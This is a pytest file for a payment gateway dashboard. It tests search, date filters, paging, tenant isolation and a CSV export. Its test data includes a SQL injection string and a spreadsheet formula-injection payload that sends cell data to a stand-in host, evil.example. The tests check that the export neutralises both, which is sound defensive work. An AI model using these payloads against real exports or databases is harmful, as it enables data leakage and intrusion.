"""The list of payments: search, days, pages and the CSV file, for the tenant itself and for administrators."""

from __future__ import annotations

import csv
import re
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from io import StringIO
from pathlib import Path
from typing import Any

import httpx
import pytest

from reference.gateway import payment_export
from reference.gateway.dashboard.payment_filter import read_filter
from reference.gateway.payment_export import COLUMNS, csv_file, plain_cell
from reference.protocol.service_word import ServiceWord
from tests.reference.gateway.checkout.checkout_shop import Shop, checkout_shop
from tests.reference.gateway.dashboard.administrator import ROOT, Administrator, Shown
from tests.reference.gateway.dashboard.merchant import SHOP, Merchant, paid_link
from tests.reference.gateway.dashboard.test_dashboard_lists import listed_late
from tests.reference.gateway.gateway_stack import PAYOUTS, Tenant

PAYMENTS = f"{SHOP}/payments"
EXPORT = f"{PAYMENTS}/export.csv"
WORD = ServiceWord()


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Shop]:
    """A gateway over chains that the test writes."""
    async with checkout_shop(tmp_path, now=int(time.time())) as opened:
        yield opened


@pytest.fixture
async def seller(store: Shop) -> Tenant:
    """A tenant."""
    return await store.tenant()


@pytest.fixture
async def merchant(store: Shop, seller: Tenant) -> AsyncIterator[Merchant]:
    """That tenant, signed in."""
    new_merchant = Merchant(store)
    await new_merchant.sign_in(key=seller.key)
    yield new_merchant
    await new_merchant.http.aclose()


@pytest.fixture
async def operator(store: Shop) -> AsyncIterator[Administrator]:
    """An administrator, signed in."""
    administrator = Administrator(store)
    await administrator.sign_in()
    yield administrator
    await administrator.http.aclose()


def labels(page: Shown) -> tuple[list[str], list[str]]:
    """Return the labels of the payments that paid links, and of those that counted for none."""
    paid = page.texts('section[aria-label="Payments"] tbody th')
    return paid, page.texts('section[aria-labelledby="late"] tbody th')


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    """Return the rows of a CSV file, which has CRLF at the end of each line."""
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8; header=present")
    assert answer.content.count(b"\n") == answer.content.count(b"\r\n")
    return list(csv.DictReader(StringIO(answer.content.decode("utf-8"), newline="")))


async def test_the_search_finds_payments_by_what_they_are_known_by(
    store: Shop, seller: Tenant, merchant: Merchant, operator: Administrator
) -> None:
    """Label, ids, memo, transaction and address; for an administrator, too, and the file has the same payments."""
    tea, tx_id = await paid_link(store, seller, 1, label="Order 17 · Tea")
    pot, _ = await paid_link(store, seller, 2, label="Order 18 · Pot")
    late = await listed_late(store, pot, "1" * 52)
    for text, paid, uncounted in (
        ("order", {"Order 17 · Tea", "Order 18 · Pot"}, {"Order 18 · Pot"}),
        ("17 · tea", {"Order 17 · Tea"}, set()),
        (tea["id"], {"Order 17 · Tea"}, set()),
        (tx_id["payment_ledger_id"], {"Order 17 · Tea"}, set()),
        (tx_id["tx_id"], {"Order 17 · Tea"}, set()),
        (store.memo(tea), {"Order 17 · Tea"}, set()),
        (pot["token"], {"Order 18 · Pot"}, {"Order 18 · Pot"}),
        (f"  {late} ", set(), {"Order 18 · Pot"}),
        (PAYOUTS["algorand_testnet"], {"Order 17 · Tea", "Order 18 · Pot"}, {"Order 18 · Pot"}),
        ("' OR 1=1 --", set(), set()),
    ):
        for visitor, base in ((merchant, PAYMENTS), (operator, f"{ROOT}/tenants/{seller.id}/payments")):
            page = await visitor.show(base, params={"search": text})
            assert page.status == 200
            shown = labels(page)
            assert (set(shown[0]), set(shown[1])) == (paid, uncounted), text
            assert page.value("search") == text.strip()
            (link,) = [str(one.attributes["href"]) for one in page.tree.css("a.button") if "CSV" in one.text()]
            rows = rows_of(await visitor.http.get(link))
            assert [row["label"] for row in rows] == [*shown[0], *shown[1]]
    assert "No payment matches" in (await merchant.show(PAYMENTS, params={"search": "nothing"})).text("main")


async def test_days_select_by_the_day_of_the_block_in_utc(store: Shop, seller: Tenant, merchant: Merchant) -> None:
    """Both days belong to the selection, and either may be left out."""
    _, tx_id = await paid_link(store, seller, 1)
    (row,) = rows_of(await merchant.http.get(EXPORT))
    day = datetime.fromisoformat(row["confirmed_at"]).astimezone(UTC).date()
    before, after = (day - timedelta(days=1)).isoformat(), (day + timedelta(days=1)).isoformat()
    shown: dict[tuple[str, str], bool] = {}
    for first, last in ((str(day), str(day)), (str(day), ""), ("", str(day)), (after, ""), ("", before), ("", "")):
        page = await merchant.show(PAYMENTS, params={"from": first, "to": last})
        assert page.status == 200
        shown[first, last] = tx_id["tx_id"] in page.answer.text
        rows = rows_of(await merchant.http.get(EXPORT, params={"from": first, "to": last}))
        assert bool(rows) == shown[first, last]
    assert list(shown.values()) == [True, True, True, False, False, True]
    assert (await merchant.show(PAYMENTS)).texts("thead th")[3] == "Confirmed"


@pytest.mark.parametrize(
    ("given", "wrong"),
    [
        ({"from": "x"}, {"from"}),
        ({"from": "2026-02-30"}, {"from"}),
        ({"from": "2026-1-1"}, {"from"}),
        ({"from": "20260101"}, {"from"}),
        ({"from": "202٣-03-03"}, {"from"}),
        ({"from": "0000-01-01"}, {"from"}),
        ({"to": "2026-01-01T00:00:00Z"}, {"to"}),
        ({"from": "2026-02-02", "to": "2026-02-01"}, {"to"}),
        ({"search": "x" * 256}, {"search"}),
        ({"search": "a\x00b"}, {"search"}),
        ({"search": "a\nb", "from": "a", "to": "b"}, {"search", "from", "to"}),
    ],
)
async def test_a_bad_value_is_a_message_beside_its_field(
    store: Shop, seller: Tenant, merchant: Merchant, given: dict[str, str], wrong: set[str]
) -> None:
    """Of the page and of the file; what was written stays, and nothing is listed."""
    _, tx_id = await paid_link(store, seller)
    for path in (PAYMENTS, EXPORT):
        page = await merchant.show(path, params=given)
        assert (page.status, set(page.fault)) == (422, wrong)
        assert {name: page.value(name) for name in given if name != "search"} == {
            name: value for name, value in given.items() if name != "search"
        }
        assert tx_id["tx_id"] not in page.answer.text


@pytest.mark.parametrize("query", ["from=0001-01-01&to=9999-12-31", "search=%FF%FE", "search=%25", "from=&to=&search="])
async def test_odd_values_that_are_allowed_are_no_fault(merchant: Merchant, query: str) -> None:
    """The first and the last day there are, bytes that are no text, a wildcard, and a form that is empty."""
    for path in (PAYMENTS, EXPORT):
        assert (await merchant.show(f"{path}?{query}")).status == 200


async def test_a_field_that_is_named_twice_is_refused(merchant: Merchant) -> None:
    """400 with a page: which of them is meant cannot be known."""
    for path in (PAYMENTS, EXPORT):
        assert (await merchant.show(f"{path}?from=2026-01-01&from=2026-01-02")).status == 400
        assert (await merchant.show(f"{path}?from=x&after=%00")).status == 400


async def test_pages_keep_the_filter(
    store: Shop, seller: Tenant, merchant: Merchant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Older and Newest lead through the payments that the filter selects, each once; the file has all of them."""
    for number in range(1, 6):
        await paid_link(store, seller, number, label=f"{'Tea & <b>' if number % 2 else 'Pot'} {number}")
    monkeypatch.setattr("reference.gateway.received_payments.PAGE_ROWS", 2)
    monkeypatch.setattr(payment_export, "_PART_ROWS", 2)
    page = await merchant.show(PAYMENTS, params={"search": "TEA & <B>"})
    first, links = labels(page)[0], {one.text(): str(one.attributes["href"]) for one in page.tree.css(".pages a")}
    older = await merchant.show(links["Older"])
    assert {*first, *labels(older)[0]} == {"Tea & <b> 1", "Tea & <b> 3", "Tea & <b> 5"}
    assert (len(first), older.value("search"), older.has("#totals")) == (2, "TEA & <B>", False)
    newest = {one.text(): str(one.attributes["href"]) for one in older.tree.css(".pages a")}
    assert list(newest) == ["Newest"]
    assert labels(await merchant.show(newest["Newest"]))[0] == first
    rows = rows_of(await merchant.http.get(EXPORT, params={"search": "tea"}))
    assert {row["label"] for row in rows} == {"Tea & <b> 1", "Tea & <b> 3", "Tea & <b> 5"}
    assert len(rows_of(await merchant.http.get(EXPORT))) == 5


async def test_a_search_that_has_not_read_everything_says_so(
    store: Shop, seller: Tenant, merchant: Merchant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page reads several parts, then leads on to older payments; the file is complete all the same."""
    for number in range(1, 4):
        await paid_link(store, seller, number, label=f"Order {number}")
        store.pass_time(10)
    monkeypatch.setattr("reference.store.received_payments.SCAN_ROWS", 1)
    found = await merchant.show(PAYMENTS, params={"search": "Order 1"})
    assert (labels(found)[0], found.has(".pages")) == (["Order 1"], False)
    monkeypatch.setattr("reference.gateway.received_payments._MOST_SCANS", 2)
    merchant_page = await merchant.show(PAYMENTS, params={"search": "Order 1"})
    assert "No match so far" in merchant_page.text("main")
    (older,) = [str(one.attributes["href"]) for one in merchant_page.tree.css(".pages a")]
    assert labels(await merchant.show(older))[0] == ["Order 1"]
    (row,) = rows_of(await merchant.http.get(EXPORT, params={"search": "Order 1"}))
    assert row["label"] == "Order 1"


async def test_the_file_has_amounts_to_the_last_digit_and_no_secret(
    store: Shop, seller: Tenant, merchant: Merchant
) -> None:
    """In USDC and in micro-units; what counted for no link, with its reason; headers of a download."""
    link = await store.on("algorand_testnet", seller, label='Ü, "quoted"', redirect_url="https://shop.example/secret")
    tx_id = store.chains["algorand_testnet"].pay(1, store.memo(link), values=(8_410_001,))
    assert (await store.post(link, "/verify", {"tx_id": tx_id})).status_code == 200
    await listed_late(store, link, "1" * 52)
    answer = await merchant.http.get(EXPORT, params={"from": "2020-01-01", "to": "2999-12-31"})
    rows = {row["state"]: row for row in rows_of(answer)}
    assert list(rows) == ["paid", "late", "surplus"]
    assert tuple(rows["paid"]) == COLUMNS
    expected_values = {
        "label": 'Ü, "quoted"',
        "link_id": link["id"],
        "amount_usdc": "8.410001",
        "amount_microunits": "8410001",
        "asked_usdc": "8.41",
        "asked_microunits": "8410000",
        "network": "algorand_testnet",
        "asset_units": "8410001",
        "paid_to": PAYOUTS["algorand_testnet"],
        "tx_id": tx_id,
        "memo": store.memo(link),
        "reason": "",
        "undone_at": "",
    }
    assert {name: rows["paid"][name] for name in expected_values} == expected_values
    assert (rows["surplus"]["amount_usdc"], rows["surplus"]["amount_microunits"]) == ("0.000001", "1")
    assert rows["late"]["reason"] == "paid"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", rows["paid"]["confirmed_at"])
    headers = answer.headers
    assert headers["content-disposition"] == 'attachment; filename="payments-from-2020-01-01-to-2999-12-31.csv"'
    assert (headers["cache-control"], headers["x-content-type-options"]) == ("no-store", "nosniff")
    session = merchant.http.cookies["weldproof-session"]
    for secret in (link["cancel_secret"], seller.key, session, "shop.example/secret", seller.id):
        assert secret not in answer.text


async def test_no_cell_of_the_file_is_a_formula(store: Shop, seller: Tenant, merchant: Merchant) -> None:
    """A label is what a shop's customer may have written; on the page it stays as it is."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    await paid_link(store, seller, label=hostile)
    (row,) = rows_of(await merchant.http.get(EXPORT))
    assert row["label"] == f"'{hostile}"
    assert labels(await merchant.show(PAYMENTS))[0] == [hostile]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        *((f"{sign}1+1", f"'{sign}1+1") for sign in "=+-@\t\r\n＝＋－＠"),  # noqa: RUF001 - these forms are meant
        ("  =1", "'  =1"),
        ("Order;=1", "Order;'=1"),
        ("=1; @x", "'=1;' @x"),
        ("Order - 1 = 2", "Order - 1 = 2"),
        ("a@b.example", "a@b.example"),
        ("0x12", "0x12"),
        ("", ""),
    ],
)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str, cell: str) -> None:
    """White space before it and a semicolon, which separates cells in some countries, do not hide it."""
    assert plain_cell(text) == cell
    (row,) = list(csv.reader(StringIO(csv_file(("label",), [(text,)]).decode(), newline="")))[1:] or [[""]]
    assert row in ([cell], [])


def test_the_file_follows_rfc_4180() -> None:
    """Commas, quotes and line breaks are in quoted cells, quotes are doubled, lines end with CRLF."""
    data = csv_file(("a", "b"), [('x,"y"', "ü\r\nz")])
    assert data == 'a,b\r\n"x,""y""","ü\r\nz"\r\n'.encode()


async def test_more_than_a_file_may_have_is_a_message(
    store: Shop, seller: Tenant, merchant: Merchant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No file is sent that lacks a part without a word, whichever list is too long."""
    link, _ = await paid_link(store, seller, 1)
    await paid_link(store, seller, 2)
    monkeypatch.setattr(payment_export, "MOST_ROWS", 2)
    assert len(rows_of(await merchant.http.get(EXPORT))) == 2
    await listed_late(store, link, "1" * 52)
    page = await merchant.show(EXPORT)
    assert (page.status, list(page.fault)) == (422, ["from"])
    monkeypatch.setattr(payment_export, "MOST_ROWS", 1)
    assert (await merchant.show(EXPORT)).status == 422


async def test_a_tenant_finds_and_exports_its_own_payments_alone(
    store: Shop, seller: Tenant, merchant: Merchant, operator: Administrator
) -> None:
    """Whatever it searches for and whichever id it names; an administrator exports the tenant of the address."""
    link, tx_id = await paid_link(store, seller, label="Only the seller's")
    await listed_late(store, link, "1" * 52)
    other_tenant = await store.tenant()
    rival = Merchant(store)
    await rival.sign_in(key=other_tenant.key)
    texts = ("", "seller", tx_id["tx_id"], link["id"], tx_id["payment_ledger_id"], "%", PAYOUTS["algorand_testnet"])
    for text in texts:
        for further in ({}, {"after": tx_id["payment_ledger_id"]}, {"tenant_id": seller.id}):
            parameters = {"search": text, **further}
            assert rows_of(await rival.http.get(EXPORT, params=parameters)) == []
            page = await rival.show(PAYMENTS, params=parameters)
            assert (page.status, labels(page)) == (200, ([], []))
    assert len(rows_of(await merchant.http.get(EXPORT))) == 2
    for tenant, count in ((seller, 2), (other_tenant, 0)):
        assert len(rows_of(await operator.http.get(f"{ROOT}/tenants/{tenant.id}/payments/export.csv"))) == count
    assert (await operator.show(f"{ROOT}/tenants/{'0' * 36}/payments/export.csv")).status == 404
    await rival.http.aclose()


async def test_ids_are_shortened_and_whole_in_the_page(store: Shop, seller: Tenant, merchant: Merchant) -> None:
    """The copy button has the whole id, its name says which, and it is hidden until its script runs."""
    _, tx_id = await paid_link(store, seller)
    page = await merchant.show(PAYMENTS)
    ids = {one.text(): one for one in page.tree.css(".copied-id .id")}
    assert set(ids) == {"PAYER", tx_id["tx_id"]}
    start, end = ids[tx_id["tx_id"]].css("span")
    assert (start.text() + end.text(), len(end.text())) == (tx_id["tx_id"], 6)
    buttons: dict[str, Any] = {str(one.attributes["data-copy"]): one for one in page.tree.css("button.copy")}
    assert set(buttons) == set(ids)
    button = buttons[tx_id["tx_id"]]
    assert (button.attributes["type"], "hidden" in button.attributes) == ("button", True)
    assert " ".join(button.text().split()) == f"Copy transaction {tx_id['tx_id'][:8]}"
    assert page.has('#copied[aria-live="polite"]')


def test_the_memo_of_a_payment_is_searched_without_its_prefix() -> None:
    """The prefix alone, or in capitals, is read as well."""
    for query, memo in (("weldproof%3AAbc", "Abc"), ("WELDPROOF%3AAbc", "Abc"), ("Abc", "Abc"), ("weldproof%3A", "")):
        assert read_filter(f"search={query}", WORD).search.memo == memo
